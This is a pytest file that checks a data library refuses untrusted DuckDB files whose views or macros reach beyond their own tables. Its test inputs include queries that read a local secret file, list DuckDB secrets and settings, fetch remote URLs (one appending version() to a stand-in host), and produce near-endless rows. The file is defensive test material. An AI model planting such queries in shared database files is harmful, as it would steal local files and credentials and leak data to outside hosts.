"""DuckDB files of strangers: only a table, or a view over tables of the same file, is a source."""

from __future__ import annotations

import contextlib

import duckdb
import pytest
from mplang_data import SourceError
from mplang_data.apart.duckdb_file import attached
from mplang_ibis.ext import at_source
from vendor_views import make_view

OUTSIDE = "127.0.0.1"  # where nothing listens
SETUP = """
CREATE SCHEMA s;
CREATE TABLE s.people AS SELECT 'a' AS id, 20 AS age, 1.5 AS pay, 'f' AS sex;
CREATE TABLE ids AS SELECT 'a' AS id;
CREATE MACRO hidden() AS (SELECT max(name) FROM duckdb_settings());
CREATE MACRO text(place) AS TABLE SELECT content FROM read_text(place);
CREATE VIEW within AS SELECT name AS id FROM duckdb_settings();
"""


def read(path, name):
    """Return the rows of a table of a file, as a reader selects them."""
    with contextlib.closing(at_source.connect()) as con:
        at_source.leave(con, [str(path), f"{path}.wal"], 1 << 30)
        relation = attached(con, str(path), name)
        return con.sql(f"SELECT * FROM {relation}").to_arrow_table().to_pylist()


def view(folder, query):
    """Return a file with a view."""
    with duckdb.connect(str(folder / "vendor.duckdb")) as made:
        made.execute(SETUP)
        make_view(made, query.format(place=folder, outside=OUTSIDE))
    return folder / "vendor.duckdb"


@pytest.mark.parametrize(
    "query",
    [
        "SELECT content AS id FROM read_text('{place}/secret.csv')",
        "SELECT file AS id FROM glob('{place}/*')",
        "SELECT id FROM read_csv('{place}/secret.csv')",
        "SELECT id FROM '{place}/secret.csv'",
        "SELECT id FROM read_csv('{place}/' || 'secret.csv')",
        "SELECT (SELECT max(content) FROM read_blob('{place}/secret.csv'))::text AS id",
        "SELECT content AS id FROM text('{place}/secret.csv')",
        "SELECT id FROM read_csv('http://{outside}/a.csv')",
        "SELECT id FROM read_csv('https://{outside}/a.csv')",
        "SELECT id FROM read_csv(['s3://{outside}/a.csv'])",
        "SELECT id FROM 'http://{outside}/a.csv'",
        "SELECT id FROM 'https://{outside}/a.parquet'",
        "SELECT id FROM read_parquet('https://{outside}/a.parquet')",
        "SELECT id FROM read_json('http://{outside}/a.json')",
        "SELECT content AS id FROM read_text('http://{outside}/?' || version())",
        "SELECT content AS id FROM read_blob('hf://{outside}/a')",
        "SELECT file AS id FROM glob('http://{outside}/*')",
        "SELECT content AS id FROM text('http://{outside}/a.txt')",
        "SELECT id FROM ids WHERE id IN (SELECT id FROM read_csv('http://{outside}/a.csv'))",
        "SELECT name AS id FROM duckdb_settings()",
        "SELECT id FROM (SELECT name AS id FROM duckdb_secrets())",
        "SELECT table_name AS id FROM information_schema.tables",
        "SELECT name AS id FROM pragma_database_list",
        "SELECT name AS id FROM pragma_table_info('ids')",
        "SELECT g::text AS id FROM generate_series(1, 1000000000000) AS made(g)",
        "SELECT id FROM ids, LATERAL (SELECT * FROM range(length(id)))",
        "SELECT id FROM ids WHERE EXISTS (SELECT 1 FROM duckdb_secrets() WHERE name = id)",
        "SELECT (SELECT max(name) FROM duckdb_settings()) AS id FROM ids",
        "SELECT hidden() AS id FROM ids",
        "SELECT id FROM within",
        "SELECT column_name AS id FROM (DESCRIBE ids)",
        "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT id FROM ids'))",
    ],
    ids=lambda query: query[7:60],
)
def test_a_view_that_reads_anything_else_is_refused(tmp_path, query):
    """Files, URLs, what DuckDB tells, rows without end; also within macros and views."""
    (tmp_path / "secret.csv").write_text("id\nPRIVATE-KEY\n")
    file = view(tmp_path, query)
    with pytest.raises(SourceError, match="'prices' .* make a table of it|does not give it"):
        read(file, "prices")


@pytest.mark.parametrize(
    "made",
    [
        "CREATE VIEW told AS SELECT current_setting('home_directory') AS id FROM ids",
        """CREATE MACRO told(name) AS "CURRENT_SETTING"(name)""",
        "CREATE TABLE told (n int, id text AS (current_setting('threads')::text))",
    ],
    ids=["view", "macro", "column"],
)
def test_a_file_that_asks_for_settings_is_refused(tmp_path, made):
    with duckdb.connect(str(tmp_path / "vendor.duckdb")) as connection:
        connection.execute(SETUP + made)
    with pytest.raises(SourceError, match="its file calls current_setting"):
        read(tmp_path / "vendor.duckdb", "ids")


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM s.people WHERE age >= 18",
        "SELECT a.* FROM s.people a JOIN (SELECT id, max(pay) AS most FROM s.people GROUP BY id) b "
        "ON a.id = b.id AND a.pay = b.most",
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) "
        "SELECT p.* FROM s.people p, n WHERE i = 1 AND age IN (SELECT max(age) FROM s.people)",
        "SELECT * EXCLUDE place FROM (SELECT *, row_number() OVER (ORDER BY id) AS place "
        "FROM s.people) ORDER BY place LIMIT 10",
        "SELECT DISTINCT p.* FROM (VALUES ('f'), ('m')) v(sex) JOIN s.people p USING (sex) "
        "UNION ALL (SELECT * FROM s.people EXCEPT SELECT * FROM s.people WHERE age = 20)",
        "SELECT id, age, pay, sex FROM s.people, unnest([1, 2]) AS u(x) WHERE x = 1",
        "SELECT p.* FROM s.people p WHERE NOT EXISTS (FROM s.people q WHERE q.age > p.age)",
    ],
    ids=lambda query: query[:40],
)
def test_a_view_over_tables_of_its_file_is_a_source(tmp_path, query):
    found = read(view(tmp_path, query), "prices")
    assert [(each["id"], each["age"], each["sex"]) for each in found] == [("a", 20, "f")]
